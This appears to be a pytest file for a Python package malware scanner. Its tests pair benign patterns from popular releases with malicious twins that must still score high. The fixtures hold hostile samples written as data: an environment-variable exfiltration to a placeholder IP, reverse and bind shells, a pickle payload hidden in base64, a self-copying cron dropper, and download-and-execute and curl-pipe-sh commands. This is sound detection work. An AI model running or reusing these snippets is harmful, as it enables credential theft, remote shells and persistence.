"""Shapes of popular releases that cried wolf on the tune-only corpora (popular-extra-3 and
the popular projects' sdists), read as what they are (no project names), each beside its
malicious twin that must stay high:

* an archive inside a nested archive that the scan opened from memory after all (a frozen
  app's library zip inside a bundled executable) is read, not "unread";
* a function's own name (unpacked from its argument, or a parameter) is not the module
  constant of the same name: a cookie decoder does not "decode and run" the module's text;
* a parser's syntax-test corpus (many Python files that do not parse, which nothing imports)
  is shown at medium, not as code hidden from the scan;
* a broken archive in a test folder (an archive library's fixture) is reported once, at
  medium: the scan's second attempt to open it no longer adds a high copy;
* ``setup.py`` running its version file opened as a pathlib path
  (``with (root / "about.py").open() as f: exec(f.read(), about)``) runs a local file, as
  ``open(path)`` does;
* ``setup.py`` asking a library's build-configuration tool on PATH for compiler flags
  (``odbc_config --cflags``, ``pg_config --includedir``) runs a build tool;
* a server handing the socket it binds (and never connects) to standard input is passing on
  its listening socket, not a reverse shell;
* a wheel whose METADATA (the long description) was rewritten after the build, all code
  matching RECORD, is shown at medium; code changed after the build stays high;
* a module-level table of where a system keeps its crontabs, in a module that writes and
  starts nothing, is data a cron library looks things up in, not persistence;
* an archive the scan cannot open (encrypted with an unknown password) that no code of the
  package names is data nothing shown unpacks: medium; named by code, it stays high;
* a docs-build script at the top of an sdist fetching a tool with ``curl … | sh``, which no
  code of the package names, is started by a maintainer, not by an install: medium;
* a folder named test(s) with one word saying which tests ("manual tests", "unit_tests",
  "test_data") holds tests like "tests" does (not "latest", "contest" or a project called
  "acme-api-test").
"""

from __future__ import annotations

import base64
import hashlib
import tarfile

from app.core.archive import Limits, open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import (
    make_sdist,
    make_wheel,
    raw_zip,
    wheel_entries,
    zip_bytes,
)

HIGH = ("high", "critical")


def _ids(res) -> set[str]:
    return {t.id for t in res.threats if t.severity in HIGH}


def _frozen_app(library_module: bytes) -> bytes:
    """A bundled program (a zip) whose own library archive sits one level deeper."""
    library = zip_bytes({"collections/__init__.py": library_module, "abc.py": b"x = 1\n"})
    return zip_bytes(
        {"app/_internal/base_library.zip": library, "app/README.txt": b"a frozen tool\n"}
    )


BENIGN_LIBRARY = b"""def namedtuple(name, fields):
    return type(name, (tuple,), {"_fields": tuple(fields)})
"""

PAYLOAD_LIBRARY = b"""import os, urllib.request
urllib.request.urlopen("http://192.0.2.7/c", data=repr(dict(os.environ)).encode())
"""


# gizmo/__init__.py starting the bundled program: code that names it.
STARTS_THE_TOOL = b"""import os, subprocess
subprocess.run([os.path.join(os.path.dirname(__file__), "bin", "sandbox-tool")])
"""


def _scan_frozen(tmp_path, module: bytes, limits: Limits | None = None, init: bytes = b""):
    files = {"gizmo/__init__.py": init, "gizmo/bin/sandbox-tool": _frozen_app(module)}
    return scan_artifact(open_artifact(make_wheel(tmp_path, name="gizmo", files=files), limits))


def test_a_nested_library_archive_the_scan_opened_is_read_not_unread(tmp_path):
    res = _scan_frozen(tmp_path, BENIGN_LIBRARY)
    assert not [h for h in res.findings if h.capability == "scan.unread"]
    assert not [s for s in res.skipped if s["path"].endswith("base_library.zip")]
    assert "disguise.unread" not in _ids(res)
    assert res.risk.level not in HIGH


def test_a_payload_in_the_nested_library_archive_is_found_inside_it(tmp_path):
    res = _scan_frozen(tmp_path, PAYLOAD_LIBRARY)
    inside = "gizmo/bin/sandbox-tool!/app/_internal/base_library.zip!/collections/__init__.py"
    assert any(h.path == inside for h in res.findings)
    assert res.risk.level in HIGH


def test_a_nested_archive_too_large_to_keep_stays_unread_high(tmp_path):
    """Under limits that keep no binary's bytes, the inner archive is really not opened;
    the package's code starts the program that holds it."""
    res = _scan_frozen(
        tmp_path, BENIGN_LIBRARY, Limits(max_kept_binary_bytes=16), init=STARTS_THE_TOOL
    )
    assert any(
        h.capability == "scan.unread" and h.path.endswith("base_library.zip") for h in res.findings
    )
    assert "disguise.unread" in _ids(res)
    assert res.risk.level in HIGH


COOKIE_MODULE = b"""import base64
import hmac
import pickle

if __debug__:
    msg = "Python 2.5 support may be dropped in future versions."

def cookie_decode(data, key):
    sig, msg = data.split(b"?", 1)
    if hmac.compare_digest(sig, hmac.new(key, msg, "md5").digest()):
        return pickle.loads(base64.b64decode(msg))

def value_decode(msg):
    return pickle.loads(base64.b64decode(msg))
"""

# The same module whose decoder takes the module's own blob: hidden code, deserialised.
BLOB_MODULE = b"""import base64
import pickle

msg = "Y29zCnN5c3RlbQooUydpZCcKdFIu"

def cookie_decode(data, key):
    return pickle.loads(base64.b64decode(msg))
"""


def test_a_decoder_of_its_own_argument_is_not_a_module_blob_run(tmp_path):
    files = {"gizmo/__init__.py": b"", "gizmo/web.py": COOKIE_MODULE}
    res = scan_artifact(open_artifact(make_wheel(tmp_path, name="gizmo", files=files)))
    assert any(h.capability == "exec.deserialize" for h in res.findings)  # still shown
    assert not [h for h in res.findings if h.capability == "exec.decode_then_exec"]
    assert res.risk.level not in HIGH


def test_a_decoder_of_the_modules_own_blob_stays_critical(tmp_path):
    files = {"gizmo/__init__.py": b"", "gizmo/web.py": BLOB_MODULE}
    res = scan_artifact(open_artifact(make_wheel(tmp_path, name="gizmo", files=files)))
    assert "chain.decode_exec" in _ids(res)
    assert res.risk.level == "critical"


def _syntax_corpus(init: bytes = b"", extra: dict[str, bytes] | None = None) -> dict:
    """A package shipping a parser's examples of broken code, and its ``__init__``."""
    files = {"gizmo/__init__.py": init}
    for i in range(12):
        # a later Python's grammar (3.15's lazy import): not read, unlike a plain typo
        files[f"gizmo/resources/invalid/case_{i}.py"] = b"lazy import json\nx = \n"
    files["gizmo/resources/valid/ok_case.py"] = b"import type_alias as t\n"
    files.update(extra or {})
    return files


def _scan(tmp_path, files):
    return scan_artifact(open_artifact(make_wheel(tmp_path, name="gizmo", files=files)))


def test_a_syntax_test_corpus_nothing_imports_is_shown_at_medium(tmp_path):
    res = _scan(tmp_path, _syntax_corpus())
    unread = [h for h in res.findings if h.capability == "scan.unread"]
    assert len(unread) == 12  # each still listed as not reviewed
    assert all(h.severity == "medium" for h in unread)
    assert res.risk.level not in HIGH


def test_an_unparsable_file_a_module_imports_stays_unread_high(tmp_path):
    """The package's own code imports one of the broken files: it is what runs."""
    res = _scan(tmp_path, _syntax_corpus(b"from gizmo.resources.invalid import case_3\n"))
    high = {h.path for h in res.findings if h.capability == "scan.unread" and h.severity == "high"}
    assert high == {"gizmo/resources/invalid/case_3.py"}
    assert "disguise.unread" in _ids(res)


def test_an_unparsable_init_among_a_syntax_corpus_stays_unread_high(tmp_path):
    broken_init = {"gizmo/resources/invalid/__init__.py": b"exec(compile(:\n"}
    res = _scan(tmp_path, _syntax_corpus(extra=broken_init))
    assert "disguise.unread" in _ids(res)
    assert res.risk.level in HIGH


def test_a_lone_unparsable_module_stays_unread_high(tmp_path):
    res = _scan(tmp_path, {"gizmo/__init__.py": b"", "gizmo/core/engine.py": b"lazy import os\n"})
    assert "disguise.unread" in _ids(res)
    assert res.risk.level in HIGH


def _broken_tar() -> bytes:
    """A tar whose only header (a pax global header) promises more than follows: an
    archive library's test data for a reader that must refuse it."""
    info = tarfile.TarInfo("bcaller")
    info.type, info.size = tarfile.XGLTYPE, 1
    return info.tobuf(format=tarfile.USTAR_FORMAT) + b"0 X="


def test_a_broken_archive_in_a_test_folder_is_reported_once_at_medium(tmp_path):
    files = {"gizmo/__init__.py": b"", "gizmo/tests/archivedata/recursion.tar": _broken_tar()}
    res = _scan(tmp_path, files)
    unread = [h for h in res.findings if h.capability == "scan.unread"]
    assert [h.path for h in unread] == ["gizmo/tests/archivedata/recursion.tar"]
    assert unread[0].severity == "medium"
    assert res.risk.level not in HIGH


def test_the_same_broken_archive_in_the_package_stays_unread_high(tmp_path):
    """Outside a test folder, with code that unpacks it."""
    init = b'import tarfile\ntarfile.open(__path__[0] + "/payload/recursion.tar").extractall()\n'
    files = {"gizmo/__init__.py": init, "gizmo/payload/recursion.tar": _broken_tar()}
    res = _scan(tmp_path, files)
    assert "disguise.unread" in _ids(res)
    assert res.risk.level in HIGH


def _setup(opener: str) -> bytes:
    return f"""import urllib.request
import zipfile
from pathlib import Path
from setuptools import setup

root = Path(__file__).parent
about = {{}}
with {opener} as f:
    exec(f.read(), about)
setup(name="gizmo", version=about["__version__"])
""".encode()


def _scan_setup(tmp_path, opener: str):
    files = {"setup.py": _setup(opener), "gizmo/about.py": b'__version__ = "1.0"\n'}
    tmp_path.mkdir()
    return scan_artifact(open_artifact(make_sdist(tmp_path, name="gizmo", files=files)))


def test_setup_py_running_its_version_file_opened_as_a_path_is_no_install_threat(tmp_path):
    for opener in ('(root / "gizmo" / "about.py").open("r")', 'Path("gizmo/about.py").open()'):
        res = _scan_setup(tmp_path / str(len(opener)), opener)
        ran = [h for h in res.findings if h.capability == "exec.dynamic"]
        assert ran and all(h.severity == "low" for h in ran), opener  # shown, as a local file
        assert res.risk.level not in HIGH, opener


def test_setup_py_running_what_it_downloads_or_pulls_from_an_archive_stays_high(tmp_path):
    for opener in (
        'urllib.request.urlopen("http://192.0.2.9/about.py")',
        'zipfile.ZipFile("gizmo/blob.zip").open("about.py")',
    ):
        res = _scan_setup(tmp_path / str(len(opener)), opener)
        assert "place.install_time" in _ids(res) or "chain.remote_exec" in _ids(res), opener
        assert res.risk.level in HIGH, opener


def _config_setup(command: str) -> bytes:
    return f"""import os
from setuptools import Extension, setup

pipe = os.popen({command!r})
flags = pipe.read().split()
setup(name="gizmo", ext_modules=[Extension("gizmo._c", ["src/c.c"], extra_compile_args=flags)])
""".encode()


def _scan_config(tmp_path, command: str):
    tmp_path.mkdir()
    files = {"setup.py": _config_setup(command), "src/c.c": b"int x;\n"}
    return scan_artifact(open_artifact(make_sdist(tmp_path, name="gizmo", files=files)))


def test_setup_py_asking_a_config_tool_for_compiler_flags_is_no_install_threat(tmp_path):
    for command in ("odbc_config --cflags --libs 2>/dev/null", "pg_config --includedir"):
        res = _scan_config(tmp_path / command.split()[0], command)
        spawns = [h for h in res.findings if h.capability == "process.spawn"]
        assert spawns and all(h.severity == "low" for h in spawns), command  # still shown
        assert res.risk.level not in HIGH, command


def test_a_config_tool_chained_to_another_command_or_shipped_in_the_package_stays_high(
    tmp_path,
):
    for i, command in enumerate(
        ("odbc_config --cflags >x; ./x", "pg_config && ./payload", "./bin/odbc_config --libs")
    ):
        res = _scan_config(tmp_path / str(i), command)
        assert "place.install_time" in _ids(res), command
        assert res.risk.level in HIGH, command


LISTENING = b"""import os
import socket
import subprocess

def serve_on_stdin():
    sock = socket.socket(socket.AF_INET)
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    saved = os.dup(0)
    os.dup2(sock.fileno(), 0)
    try:
        subprocess.run(["gizmo-worker", "--fd", "0"], check=True)
    finally:
        os.dup2(saved, 0)
"""

REVERSE = b"""import os
import pty
import socket

def shell():
    s = socket.socket(socket.AF_INET)
    s.connect(("192.0.2.4", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    pty.spawn("/bin/sh")
"""

BIND_SHELL = b"""import os
import pty
import socket

def shell():
    s = socket.socket(socket.AF_INET)
    s.bind(("0.0.0.0", 4444))
    s.listen(1)
    conn, _ = s.accept()
    os.dup2(conn.fileno(), 0)
    os.dup2(conn.fileno(), 1)
    pty.spawn("/bin/sh")
"""


def test_a_listening_socket_handed_to_stdin_is_no_reverse_shell(tmp_path):
    res = _scan(tmp_path, {"gizmo/__init__.py": b"", "gizmo/serve.py": LISTENING})
    assert any(h.capability == "net.reverse_shell" for h in res.findings)  # shown
    assert "chain.reverse_shell" not in _ids(res)
    assert res.risk.level not in HIGH


def test_a_connected_or_accepted_socket_on_stdin_stays_a_reverse_shell(tmp_path):
    for i, code in enumerate((REVERSE, BIND_SHELL)):
        (tmp_path / str(i)).mkdir()
        res = _scan(tmp_path / str(i), {"gizmo/__init__.py": b"", "gizmo/serve.py": code})
        assert "chain.reverse_shell" in _ids(res)
        assert res.risk.level == "critical"


def _digest(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _edited_after_build(tmp_path, path: str, extra: bytes):
    """A wheel with a hashed RECORD, then ``extra`` appended to ``path``."""
    entries = wheel_entries("gizmo", "1.0", {"gizmo/cli.py": b"def main():\n    return 0\n"})
    record = "gizmo-1.0.dist-info/RECORD"
    entries[record] = (
        "".join(f"{p},{_digest(d)},{len(d)}\n" for p, d in entries.items() if p != record).encode()
        + f"{record},,\n".encode()
    )
    entries[path] += extra
    wheel = tmp_path / "gizmo-1.0-py3-none-any.whl"
    wheel.write_bytes(zip_bytes(entries))
    return scan_artifact(open_artifact(wheel))


def test_a_wheel_whose_description_was_rewritten_after_the_build_is_medium(tmp_path):
    res = _edited_after_build(tmp_path, "gizmo-1.0.dist-info/METADATA", b"\nMore words.\n")
    changed = [h for h in res.findings if h.rule == "whl.record_hash"]
    assert [h.match for h in changed] == ["gizmo-1.0.dist-info/METADATA"]  # still shown
    assert changed[0].severity == "medium"
    assert res.risk.level not in HIGH


def test_code_or_the_wheel_file_changed_after_the_build_stay_high(tmp_path):
    for i, path in enumerate(("gizmo/cli.py", "gizmo-1.0.dist-info/WHEEL")):
        (tmp_path / str(i)).mkdir()
        res = _edited_after_build(tmp_path / str(i), path, b"\n# edited\n")
        assert "mismatch.record" in _ids(res), path
        assert res.risk.level in HIGH, path


CRON_TABLE = b"""import os

KNOWN_LOCATIONS = [
    ("user", "/var/spool/cron/crontabs/"),
    ("system", "/etc/crontab"),
    ("system", "/etc/cron.d/"),
    ("anacron", "/etc/cron.daily"),
]

def list_tabs():
    for kind, loc in KNOWN_LOCATIONS:
        if os.path.isdir(loc):
            for name in os.listdir(loc):
                yield kind, os.path.join(loc, name)
        elif os.path.exists(loc):
            yield kind, loc
"""

# The same table in a module that copies itself into each location.
CRON_DROPPER = (
    CRON_TABLE
    + b"""
import shutil

def spread():
    for _kind, loc in KNOWN_LOCATIONS:
        shutil.copy(__file__, os.path.join(loc, "gizmo"))
"""
)


def test_a_table_of_crontab_locations_in_a_module_that_only_reads_is_no_persistence(tmp_path):
    res = _scan(tmp_path, {"gizmo/__init__.py": b"", "gizmo/tabs.py": CRON_TABLE})
    assert any(h.capability == "persist.autostart" for h in res.findings)  # still shown
    assert "impact.persistence" not in _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_table_in_a_module_that_copies_itself_there_stays_persistence(tmp_path):
    res = _scan(tmp_path, {"gizmo/__init__.py": b"", "gizmo/tabs.py": CRON_DROPPER})
    assert "impact.persistence" in _ids(res)
    assert res.risk.level in HIGH


def _locked_zip() -> bytes:
    """A zip whose every entry is encrypted with a password the scanner does not know."""
    return raw_zip(
        [{"name": b"weights/run.py", "data": b"print('secret')\n", "password": b"s3cret"}]
    )


def test_an_encrypted_archive_no_code_names_is_unread_at_medium(tmp_path):
    files = {"gizmo/__init__.py": b"", "gizmo/assets/model.zip": _locked_zip()}
    res = _scan(tmp_path, files)
    unread = [h for h in res.findings if h.capability == "scan.unread"]
    assert unread and all(h.severity == "medium" for h in unread)  # listed as not reviewed
    assert res.risk.level not in HIGH


def test_an_encrypted_archive_that_code_unpacks_stays_unread_high(tmp_path):
    """With a password the package does not hold (one named in it opens the archive: see
    tests/core/archive/test_package_passwords.py)."""
    init = b"""import os, zipfile
here = os.path.dirname(__file__)
key = os.environ["GIZMO_KEY"].encode()
zipfile.ZipFile(os.path.join(here, "assets", "model.zip")).extractall(here, pwd=key)
"""
    files = {"gizmo/__init__.py": init, "gizmo/assets/model.zip": _locked_zip()}
    res = _scan(tmp_path, files)
    assert "disguise.unread" in _ids(res)
    assert res.risk.level in HIGH


DOCS_SCRIPT = b"""#!/usr/bin/env bash
set -e
curl -LsSf https://example.invalid/uv/install.sh | sh
uv run mkdocs build
"""

PLAIN_SETUP = b'from setuptools import setup\nsetup(name="gizmo", version="1.0")\n'
RUNS_SCRIPT = b"""import subprocess
from setuptools import setup
subprocess.check_call(["bash", "build-docs.sh"])
setup(name="gizmo", version="1.0")
"""


def _sdist_with_script(tmp_path, setup_py: bytes):
    tmp_path.mkdir()
    files = {"setup.py": setup_py, "build-docs.sh": DOCS_SCRIPT, "gizmo/__init__.py": b""}
    return scan_artifact(open_artifact(make_sdist(tmp_path, name="gizmo", files=files)))


def test_a_docs_script_no_code_names_is_no_install_threat(tmp_path):
    res = _sdist_with_script(tmp_path / "a", PLAIN_SETUP)
    fetch = [h for h in res.findings if h.capability == "process.shell_download"]
    assert fetch and all(h.severity == "medium" for h in fetch)  # still shown
    assert res.risk.level not in HIGH


def test_the_same_script_started_by_setup_py_stays_high(tmp_path):
    res = _sdist_with_script(tmp_path / "a", RUNS_SCRIPT)
    assert res.risk.level in HIGH
    assert any(
        h.capability == "process.shell_download" and h.severity in HIGH for h in res.findings
    )


def test_the_same_script_named_by_a_module_keeps_its_download_line_high(tmp_path):
    """A module that names the script (here a function nobody calls on import) may start it."""
    module = b"""import os, subprocess
def bootstrap():
    subprocess.run(["sh", os.path.join(os.path.dirname(__file__), "fetch-tool.sh")])
"""
    files = {"gizmo/__init__.py": b"", "gizmo/boot.py": module, "gizmo/fetch-tool.sh": DOCS_SCRIPT}
    res = _scan(tmp_path, files)
    fetch = [h for h in res.findings if h.capability == "process.shell_download"]
    assert fetch and all(h.severity in HIGH for h in fetch)
    assert res.risk.level in HIGH


BUILD_PACKAGE = b"""import os, subprocess, urllib.request

url = "https://example.invalid/innosetup/is.exe"
urllib.request.urlretrieve(url, "is.exe")
subprocess.check_call([os.path.abspath("is.exe"), "/VERYSILENT"])
"""


def test_a_script_in_a_folder_named_manual_tests_is_lowered_like_tests(tmp_path):
    files = {"gizmo/__init__.py": b"", "manual tests/4 binaries/build_package.py": BUILD_PACKAGE}
    res = _scan(tmp_path, files)
    assert any(h.capability == "net.download_to_disk" for h in res.findings)  # still shown
    assert res.risk.level not in HIGH


def test_the_same_script_in_a_folder_whose_name_only_contains_test_stays_high(tmp_path):
    for i, folder in enumerate(("latest", "contest", "attestation", "acme-api-test")):
        (tmp_path / str(i)).mkdir()
        files = {"gizmo/__init__.py": b"", f"gizmo/{folder}/build_package.py": BUILD_PACKAGE}
        res = _scan(tmp_path / str(i), files)
        assert "chain.download_execute" in _ids(res), folder
        assert res.risk.level in HIGH, folder
